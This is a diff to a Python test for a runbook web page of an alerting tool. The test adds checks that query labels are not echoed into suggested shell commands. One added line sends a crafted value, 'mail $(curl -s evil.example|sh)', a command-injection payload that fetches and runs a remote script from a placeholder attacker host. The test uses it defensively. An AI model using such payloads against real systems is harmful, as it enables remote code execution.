@@ -35,6 +35,7 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
         assert url == f"{base}/runbooks/reliabledeadlettergrowth"
         page = httpx.get(url, timeout=30)
         other = httpx.get(url, params={"actor": "other"}, timeout=30)
+        crafted = httpx.get(url, params={"queue": "mail $(curl -s evil.example|sh)"}, timeout=30)
         promql = httpx.get(f"{base}/runbooks/ReliableHeartbeatFailures", timeout=30)
         index = httpx.get(f"{base}/runbooks/", timeout=30)
         missing = httpx.get(f"{base}/runbooks/nosuchalert", timeout=30)
@@ -47,7 +48,9 @@ def test_runbook_url_of_a_firing_alert_opens_its_runbook_with_the_jobs(store_url
     # The same rendering as `reliable alerts test --json` (the exporter runs with the default base URL).
     assert text == alert["runbook"].replace(f"{base}/", "http://127.0.0.1:9464/")
     assert other.status_code == 200 and "dead-1" not in other.text  # no current alert for that actor
-    assert "reliable jobs list --actor other" in other.text
+    assert "is not firing here now" in other.text and "(template error" not in other.text
+    assert "--actor other" not in other.text  # labels that match no alert are not echoed into commands
+    assert crafted.status_code == 200 and "evil.example" not in crafted.text
     assert promql.status_code == 200 and "# ReliableHeartbeatFailures (critical, route page, owner platform)" \
         in promql.text and "No job details" in promql.text
     assert index.status_code == 200
